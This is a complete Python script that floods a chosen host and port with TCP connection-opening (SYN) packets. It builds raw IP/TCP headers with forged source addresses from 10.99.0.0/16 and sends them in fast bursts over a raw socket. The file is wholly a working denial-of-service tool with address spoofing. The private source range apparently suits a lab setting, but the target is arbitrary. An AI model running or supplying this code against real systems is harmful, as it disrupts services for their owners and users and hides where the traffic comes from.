"""flood.py DESTINATION PORT COUNT: COUNT first packets of TCP connections, each from a source of its own.

The sources are in 10.99.0.0/16. In five bursts, each as fast as the socket takes it. Prints "begun" after the first,
and how many were sent at the end.
"""
import socket
import struct
import sys
import time

destination, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(destination)
for number in range(count):
    source = bytes([10, 99, number >> 8 & 0xFF, number & 0xFF])
    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # the kernel fills in length and checksum of the IP header
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    sock.sendto(ip + tcp, (destination, 0))
    if number + 1 == count // 5:
        print("begun", flush=True)
    if (number + 1) % (count // 5) == 0:
        time.sleep(0.1)
print("sent", count)
